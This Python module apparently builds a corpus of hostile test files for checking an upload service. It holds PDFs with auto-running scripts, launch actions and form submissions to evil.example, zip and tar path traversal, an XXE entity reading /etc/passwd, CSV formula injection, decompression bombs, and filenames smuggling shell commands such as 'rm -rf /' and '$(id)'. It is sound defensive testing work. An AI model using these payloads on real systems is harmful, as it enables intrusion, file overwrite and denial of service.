"""Files that strangers might send to do harm, made here: each a name and a function. In what acts or is smuggled stands MARK."""

import io
import itertools
import struct
import tarfile
import zipfile
import zlib
from base64 import b64decode
from collections.abc import Callable, Iterator
from functools import cache, partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, PngImagePlugin

MARK = b"KH-HOSTILE-7f3a"
JS = "app.alert('KH-HOSTILE-7f3a')"
Make = Callable[[], bytes]
# 64 by 48 pixels, encoded once by x265, which nothing here carries; its Exif names a phone.
PHONE = b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAb5tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAADRpbG9jAAAAAERAAAIAAQAA"
    "AAAB4gABAAAAAAAAAEkAAgAAAAACKwABAAAAAAAAAEAAAAA4aWluZgAAAAAAAgAAABVpbmZlAgAAAAABAABodmMxAAAAABVpbmZlAgAAAQACAABFeGlmAAAAAA5w"
    "aXRtAAAAAAABAAAA/WlwcnAAAADdaXBjbwAAAHZodmNDAQNwAAAAkAAAAAAAHvAA/P34+AAADwNgAAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQAqQgEB"
    "A3AAAAMAkAAAAwAAAwAeoCCBBZbq5Ka5uAhoMCAAAAMDIAAAAwAhYgABAAZEAcFzwIkAAAATY29scm5jbHgAAQANAAaAAAAAFGlzcGUAAAAAAAAAQAAAAEAAAAAo"
    "Y2xhcAAAAEAAAAABAAAAMAAAAAEAAAAAAAAAAv////AAAAACAAAAEHBpeGkAAAAAAwgICAAAABhpcG1hAAAAAAAAAAEAAQWBAgMFhAAAABppcmVmAAAAAAAAAA5j"
    "ZHNjAAIAAQABAAAAkW1kYXQAAABFKAGvWOYFoHodJ6WrmZDrry70Xyup5x6Q0VIQWaE2LPczBBkhD18vT4WOiMYPwuV9lhj8A6+cqMmZkH8nmHQtOkBVw9DIAAAA"
    "BkV4aWYAAE1NACoAAAAIAAIBDwACAAAACAAAACYBMQACAAAACAAAAC4AAAAATm9yZGZvbgBQaG9uZSAxAA=="
)


@cache
def picture(kind: str = "PNG", size: tuple[int, int] = (200, 140), mode: str = "RGB") -> bytes:
    if kind == "HEIC":
        return PHONE
    out = io.BytesIO()
    Image.radial_gradient("L").resize(size).convert(mode).save(out, kind)
    return out.getvalue()


def pdf(change: Callable[[Pdf], object] = lambda _pdf: None, *, pages: int = 1, **options: object) -> bytes:
    made = pikepdf.new()
    for _ in range(pages):
        page = made.add_blank_page(page_size=(200, 140))
        page.Contents = made.make_stream(b"0 0 m 100 100 l S")
    change(made)
    out = io.BytesIO()
    made.save(out, deterministic_id="encryption" not in options, **options)  # type: ignore[arg-type]  # as it takes them
    return out.getvalue()


def whole() -> dict[str, Make]:
    found: dict[str, Make] = {kind: partial(picture, kind) for kind in ("JPEG", "PNG", "WEBP", "HEIC")}
    return found | {"PDF": pdf}


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("../../etc/cron.d/x", MARK)
    return out.getvalue()


def tarred() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        head = tarfile.TarInfo("/etc/passwd")
        head.size = len(MARK)
        archive.addfile(head, io.BytesIO(MARK))
    return out.getvalue()


OTHERS: dict[str, Make] = {
    "ZIP": zipped,
    "HTML": lambda: b"<!doctype html><html><script>alert('" + MARK + b"')</script></html>",
    "script": lambda: b"#!/bin/sh\necho " + MARK + b"\n",
    "PHP": lambda: b"<?php system('" + MARK + b"'); ?>",
    "SVG": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>" + MARK + b"</script></svg>",
    "ELF": lambda: b"\x7fELF\x02\x01\x01" + bytes(57) + MARK,
    "program": lambda: b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(60) + MARK,
    "JavaScript": lambda: b"/*" + MARK + b"*/ eval(location.hash.slice(1));\n",
}
WRONG: dict[str, Make] = OTHERS | {
    **{kind: partial(picture, kind) for kind in ("GIF", "BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "AVIF", "JPEG2000")},
    "TAR": tarred,
    "EPS": partial(picture, "EPS"),
    "PostScript": lambda: b"%!PS-Adobe-3.0\n(" + MARK + b") print quit\n",
    "RTF": lambda: b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata " + MARK + b"}}}",
    "OLE": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + MARK,
    "gzip": lambda: zlib.compress(MARK, wbits=31),
    "XML": lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' + MARK,
    "laughs": lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"ha" * 50 + b'"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
    "CSV": lambda: b"name,=cmd|' /C calc'!A0\n" + MARK,
    "text": lambda: b"just words " + MARK,
    "MP4": lambda: b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0\0\0\x20mdat" + MARK,
    "MP3": lambda: b"ID3\x03\0\0\0\0\0\x21" + MARK + bytes(64),
    "shortcut": lambda: b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60) + MARK,
    "class": lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40) + MARK,
    "nothing at all": lambda: b"",
    "one byte": lambda: b"\0",
    "zeros": lambda: bytes(5000),
    "only a PDF's head": lambda: b"%PDF-1.7\nnothing more",
    "only a JPEG's head": lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01" + bytes(40),
    "only a PNG's head": lambda: b"\x89PNG\r\n\x1a\n" + bytes(90),
    "only a WebP's head": lambda: b"RIFF\x40\0\0\0WEBPVP8 " + bytes(60),
    "only a HEIC's head": lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(60),
    "too much": lambda: pdf() + bytes(15 * 1024 * 1024),
}


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, extra: bytes = b"", bits: int = 8, colours: int = 2, data: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, bits, colours, 0, 0, 0)
    rows = data or zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + extra + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def resized_jpeg(width: int, height: int) -> bytes:
    data = bytearray(picture("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def resized_heic(width: int, height: int) -> bytes:
    return PHONE.replace(b"ispe" + bytes(4) + struct.pack(">II", 64, 64), b"ispe" + bytes(4) + struct.pack(">II", width, height))


def resized_webp(width: int, height: int) -> bytes:
    """As an extended one, of that canvas."""
    frame = picture("WEBP")[12:]
    canvas = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + bytes(4) + canvas + frame
    return b"RIFF" + struct.pack("<I", len(body)) + body


def worded_png(kind: bytes, size: int) -> bytes:
    """A text, or a profile, that becomes `size` bytes."""
    packed = zlib.compress(bytes(size), 9)
    words = {
        b"zTXt": b"a\0\0" + packed,
        b"iTXt": b"a\0\1\0\0\0" + packed,
        b"iCCP": b"a\0\0" + packed,
        b"tEXt": b"a\0" + bytes(size),
    }
    whole = picture("PNG")
    return whole[:33] + chunk(kind, words[kind]) + whole[33:]


def with_image(made: Pdf, width: int, height: int, data: bytes | None = None, **entries: object) -> None:
    image = made.make_stream(zlib.compress(bytes(100), 9) if data is None else data)
    for name, value in {
        "/Type": Name.XObject, "/Subtype": Name.Image, "/Width": width, "/Height": height, "/ColorSpace": Name.DeviceRGB,
        "/BitsPerComponent": 8,
    }.items():  # fmt: skip
        image[name] = value
    for name, value in ({"Filter": Name.FlateDecode} | entries).items():
        image[f"/{name}"] = value
    made.pages[0].Resources = Dictionary(XObject=Dictionary(I=image))


def packed_in_pdf(size: int, times: int = 1, streams: int = 1) -> bytes:
    """Streams that become `size` bytes each, packed so many times."""
    data = b" " * size
    for _ in range(times):
        data = zlib.compress(data, 9)

    def change(made: Pdf) -> None:
        made.pages[0].Contents = Array(
            made.make_indirect(Stream(made, data, Filter=Array([Name.FlateDecode] * times))) for _ in range(streams)
        )

    return pdf(change, recompress_flate=False, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def action(**entries: object) -> Dictionary:
    return Dictionary(Type=Name.Action, **entries)


def script() -> Dictionary:
    return action(S=Name.JavaScript, JS=String(JS))


def embedded(made: Pdf) -> Dictionary:
    stream = made.make_stream(MARK)
    stream.Type = Name.EmbeddedFile
    return Dictionary(Type=Name.Filespec, F=String("run.exe"), UF=String("run.exe"), EF=Dictionary(F=stream))


def annotated(subtype: str, **entries: object) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        found = {name: value(made) if callable(value) else value for name, value in entries.items()}
        note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[0, 0, 90, 90], **found)
        made.pages[0].Annots = Array([made.make_indirect(note)])

    return change


def rooted(**entries: object) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        for name, value in entries.items():
            made.Root[f"/{name}"] = value(made) if callable(value) else value

    return change


def drawn_with(entry: str, **entries: object) -> Callable[[Pdf], None]:
    """In what a page is drawn with."""

    def change(made: Pdf) -> None:
        form = made.make_stream(b"0 0 m 9 9 l S")
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
        for name, value in entries.items():
            form[f"/{name}"] = value(made) if callable(value) else value
        made.pages[0].Resources = Dictionary({entry: Dictionary(X=form)})

    return change


def form(**entries: object) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        field = made.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Tx,
                T=String("name"),
                V=String("Alice"),
                Rect=[0, 0, 90, 20],
                DA=String("/Helv 12 Tf"),
                AA=Dictionary(K=script()),
                A=script(),
                P=made.pages[0].obj,
            )
        )
        made.pages[0].Annots = Array([field])
        found = {name: value(made) if callable(value) else value for name, value in entries.items()}
        made.Root.AcroForm = Dictionary(Fields=Array([field]), **found)

    return change


def outlined(made: Pdf) -> None:
    item = made.make_indirect(Dictionary(Title=String("open me"), A=script()))
    made.Root.Outlines = made.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = made.Root.Outlines


def paged(**entries: object) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        for name, value in entries.items():
            made.pages[0][f"/{name}"] = value

    return change


def hidden_names(data: bytes) -> bytes:
    """As readers take them and searching for words does not find them."""
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/OpenAction", b"/Open#41ction")


def xfa(made: Pdf) -> Stream:
    return made.make_stream(b"<xdp:xdp><script>" + MARK + b"</script></xdp:xdp>")


ACTIVE: dict[str, Make] = {
    "script at opening": lambda: pdf(rooted(OpenAction=script())),
    "script in an object stream": lambda: pdf(rooted(OpenAction=script()), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "script under a hidden name": lambda: hidden_names(pdf(rooted(OpenAction=script()))),
    "script in a stream": lambda: pdf(
        rooted(OpenAction=lambda made: action(S=Name.JavaScript, JS=made.make_stream(JS.encode())))
    ),
    "script at closing": lambda: pdf(rooted(AA=Dictionary(WC=script(), DP=script()))),
    "script of the page": lambda: pdf(paged(AA=Dictionary(O=script(), C=script()))),
    "script among the names": lambda: pdf(
        rooted(Names=lambda _made: Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script()]))))
    ),
    "script behind another": lambda: pdf(rooted(OpenAction=action(S=Name.GoTo, D=Array([]), Next=script()))),
    "script of a note": lambda: pdf(annotated("Text", AA=Dictionary(E=script()), Contents=String("x"))),
    "script of a link": lambda: pdf(annotated("Link", A=script())),
    "script in what is drawn with": lambda: pdf(drawn_with("/XObject", AA=Dictionary(O=script()), JS=String(JS))),
    "script in what is drawn with, all in one": lambda: pdf(
        paged(
            Resources=Dictionary(
                ExtGState=Dictionary(X=Dictionary(LW=1, AA=Dictionary(O=script()), Y=Array([Dictionary(JS=String(JS))])))
            )
        )
    ),
    "script of a bookmark": lambda: pdf(outlined),
    "program": lambda: pdf(
        rooted(OpenAction=action(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd"), P=String(JS))))
    ),
    "program of a link": lambda: pdf(annotated("Link", A=action(S=Name.Launch, F=String("/bin/sh -c KH-HOSTILE-7f3a")))),
    "address": lambda: pdf(annotated("Link", A=action(S=Name.URI, URI=String("https://evil.example/KH-HOSTILE-7f3a")))),
    "address at opening": lambda: pdf(rooted(OpenAction=action(S=Name.URI, URI=String("https://evil.example/KH-HOSTILE-7f3a")))),
    "base of addresses": lambda: pdf(rooted(URI=Dictionary(Base=String("https://evil.example/KH-HOSTILE-7f3a")))),
    "another file's page": lambda: pdf(
        annotated("Link", A=action(S=Name.GoToR, F=String("\\\\evil\\KH-HOSTILE-7f3a"), D=Array([0])))
    ),
    "an embedded file's page": lambda: pdf(annotated("Link", A=action(S=Name.GoToE, F=String("KH-HOSTILE-7f3a"), D=Array([0])))),
    "form that is sent": lambda: pdf(
        rooted(OpenAction=action(S=Name.SubmitForm, F=String("https://evil.example/KH-HOSTILE-7f3a")))
    ),
    "data that are fetched": lambda: pdf(rooted(OpenAction=action(S=Name.ImportData, F=String("KH-HOSTILE-7f3a")))),
    "sound": lambda: pdf(annotated("Sound", Sound=lambda made: made.make_stream(MARK))),
    "film": lambda: pdf(annotated("Movie", Movie=Dictionary(F=String("KH-HOSTILE-7f3a")))),
    "screen": lambda: pdf(annotated("Screen", A=action(S=Name.Rendition, JS=String(JS), OP=0))),
    "rich media": lambda: pdf(annotated("RichMedia", RichMediaContent=lambda made: Dictionary(Assets=embedded(made)))),
    "solid": lambda: pdf(annotated("3D", **{"3DD": lambda made: made.make_stream(MARK)})),
    "attachment": lambda: pdf(
        rooted(Names=lambda made: Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), embedded(made)]))))
    ),
    "attachment of a note": lambda: pdf(annotated("FileAttachment", FS=embedded)),
    "associated file": lambda: pdf(rooted(AF=lambda made: Array([embedded(made)]))),
    "associated file of what is drawn": lambda: pdf(drawn_with("/XObject", AF=lambda made: Array([embedded(made)]))),
    "folder of files": lambda: pdf(
        rooted(
            Collection=Dictionary(),
            Names=lambda made: Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), embedded(made)]))),
        )
    ),
    "form": lambda: pdf(form()),
    "form with a program": lambda: pdf(form(XFA=xfa)),
    "form that is all a program": lambda: pdf(lambda made: (form(XFA=xfa)(made), rooted(NeedsRendering=True)(made))),
    "form that calculates": lambda: pdf(form(CO=Array([]), NeedAppearances=True)),
    "metadata": lambda: pdf(rooted(Metadata=lambda made: made.make_stream(b"<x:xmpmeta><a>" + MARK + b"</a></x:xmpmeta>"))),
    "title": lambda: pdf(lambda made: made.docinfo.update({"/Title": String("KH-HOSTILE-7f3a")})),
    "private data of a program": lambda: pdf(paged(PieceInfo=Dictionary(X=Dictionary(Private=String("KH-HOSTILE-7f3a"))))),
    "PostScript": lambda: pdf(drawn_with("/XObject", Subtype=Name.PS)),
    "PostScript under a form": lambda: pdf(drawn_with("/XObject", Subtype2=Name.PS, PS=String("KH-HOSTILE-7f3a"))),
    "stream from elsewhere": lambda: pdf(drawn_with("/XObject", F=String("KH-HOSTILE-7f3a"))),
    "page from elsewhere": lambda: pdf(drawn_with("/XObject", Ref=Dictionary(F=String("KH-HOSTILE-7f3a"), Page=0))),
    "thumbnail": lambda: pdf(lambda made: paged(Thumb=made.make_stream(MARK))(made)),
    "articles": lambda: pdf(
        lambda made: rooted(Threads=Array([Dictionary(I=Dictionary(Title=String("KH-HOSTILE-7f3a")))]))(made)
    ),
    "structure": lambda: pdf(rooted(StructTreeRoot=Dictionary(Type=Name.StructTreeRoot, K=Dictionary(S=Name.P, A=script())))),
    "written over": lambda: (
        pdf() + b"\n9 0 obj\n<</S/JavaScript/JS(" + JS.encode() + b")>>\nendobj\ntrailer\n<</Size 10>>\n%%EOF\n"
    ),
    "password": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "locked against changes": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")),
    "no pages": lambda: bare_pdf(),
    "too many pages": lambda: pdf(pages=51),
}


def bare_pdf() -> bytes:
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def loops() -> bytes:
    """Pages that are their own parents."""
    return pdf(lambda made: made.Root.Pages.Kids.append(made.Root.Pages))


def nested(depth: int) -> bytes:
    return pdf().replace(b"/Contents", b"/X " + b"[" * depth + b"]" * depth + b" /Contents")


FLOODS: dict[str, Make] = {
    **{
        f"PNG of {width} by {height}": partial(png, width, height)
        for width, height in [
            (10_000, 8_001),
            (65_000, 65_000),
            (20_000, 20_000),
            (2**31 - 1, 2**31 - 1),
            (2**31 - 1, 1),
            (1, 2**31 - 1),
            (500, 500),
            (0, 10),
            (10, 0),
            (0, 0),
        ]
    },
    "PNG of sixteen bits": partial(png, 30_000, 30_000, bits=16, colours=6),
    "PNG of one bit": partial(png, 100_000, 100_000, bits=1, colours=0),
    "PNG that becomes a hundred times as much": lambda: png(100, 100, data=zlib.compress(bytes(50_000_000), 9)),
    **{
        f"JPEG of {wide} by {high}": partial(resized_jpeg, wide, high)
        for wide, high in [(65_535, 65_535), (65_535, 700), (9_000, 9_000), (0, 0)]
    },
    **{
        f"WebP of {wide} by {high}": partial(resized_webp, wide, high)
        for wide, high in [(16_383, 16_383), (2**24, 2**24), (9_000, 5_000)]
    },
    **{
        f"HEIC of {wide} by {high}": partial(resized_heic, wide, high)
        for wide, high in [(65_535, 65_535), (2**31, 2**31), (9_000, 9_000)]
    },
    **{
        f"{kind.decode()} of {size} bytes": partial(worded_png, kind, size)
        for kind in (b"zTXt", b"iTXt", b"iCCP")
        for size in (10**6, 10**8)
    },
    "tEXt of ten megabytes": partial(worded_png, b"tEXt", 10**7),
    **{
        f"PDF with a picture of {wide} by {high}": partial(pdf, partial(with_image, width=wide, height=high))
        for wide, high in [(65_535, 65_535), (10**9, 10**9), (7_000, 6_000)]
    },
    "PDF with a JPEG larger than it says": lambda: pdf(
        lambda made: with_image(made, 10, 10, resized_jpeg(65_000, 65_000), Filter=Name.DCTDecode)
    ),
    "PDF that becomes two gigabytes": lambda: packed_in_pdf(60_000_000, 1, 35),
    "PDF packed twice": lambda: packed_in_pdf(500_000_000, 2),
    "PDF packed three times": lambda: packed_in_pdf(300_000_000, 3),
    "PDF packed nine times": lambda: packed_in_pdf(1000, 9),
    "PDF of a page of a kilometre": lambda: pdf(paged(MediaBox=Array([0, 0, 3_000_000, 3_000_000]))),
    "PDF of a page of nothing": lambda: pdf(paged(MediaBox=Array([0, 0, 0, 0]))),
    "PDF whose pages go in circles": loops,
    **{f"PDF nested {depth} deep": partial(nested, depth) for depth in (100, 10_000, 1_000_000)},
    "PDF of many objects": lambda: pdf(
        rooted(X=lambda made: Array(made.make_indirect(Dictionary(A=number)) for number in range(201_000)))
    ),
}


def spoiled() -> Iterator[tuple[str, Make]]:
    for (kind, make), part in itertools.product(whole().items(), (0.02, 0.1, 0.3, 0.5, 0.7, 0.9, 0.98)):
        yield f"{kind} cut at {part}", partial(lambda make, part: make()[: int(len(make()) * part)], make, part)
    for (kind, make), (other, extra) in itertools.product(whole().items(), OTHERS.items()):
        yield f"{kind} and {other}", partial(lambda make, extra: make() + extra(), make, extra)
        yield f"{other} and {kind}", partial(lambda make, extra: extra() + make(), make, extra)
    for kind, make in whole().items():
        yield f"{kind} after a kilobyte", partial(lambda make: bytes(1024) + make(), make)
    yield "GIF and PDF", lambda: b"GIF89a" + pdf()
    yield "JPEG in the head of a PNG", lambda: b"\xff\xd8\xff\xe0" + picture("PNG")
    yield "PDF in a JPEG's comment", lambda: commented(pdf())
    yield "script in a JPEG's comment", lambda: commented(OTHERS["HTML"]())
    yield "script in a PNG's text", texted


def commented(words: bytes) -> bytes:
    data = picture("JPEG")
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + MARK + words[len(MARK) :] + data[2:]


def texted() -> bytes:
    info, out = PngImagePlugin.PngInfo(), io.BytesIO()
    info.add_text("Comment", MARK.decode())
    Image.radial_gradient("L").save(out, "PNG", pnginfo=info)
    return out.getvalue()


def corpus() -> dict[str, Make]:
    parts = (WRONG, {f"PDF: {name}": make for name, make in ACTIVE.items()}, FLOODS, dict(spoiled()))
    found: dict[str, Make] = {}
    for part in parts:
        found |= part
    return found


BOMBS = {name: make for name, make in FLOODS.items() if name.startswith(("WebP of 16", "PDF packed", "PDF that"))}
# As files are called by who means ill, and by who never gave it a thought.
NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\x.pdf",
    "/etc/cron.d/x",
    "C:\\autoexec.bat",
    "a/b/c.pdf",
    "....//....//x.pdf",
    ".",
    "..",
    "",
    " ",
    "\0.pdf",
    "a\0b.pdf",
    "x\r\nSet-Cookie: a=b.pdf",
    "a\u202egnp.exe",
    "\u2066x\u2069.pdf",
    "x" * 5000 + ".pdf",
    "x." + "y" * 5000,
    "CON",
    "NUL.pdf",
    "a" * 199 + "é.pdf",
    "<script>alert(1)</script>.pdf",
    '"; rm -rf /; ".pdf',
    "%2e%2e%2fx.pdf",
    "护照.pdf",
    "\ufeffx.pdf",
    "x.pdf\u200b",
    "~/.ssh/id",
    "-rf",
    "$(id).pdf",
    "x.php;.jpg",
)
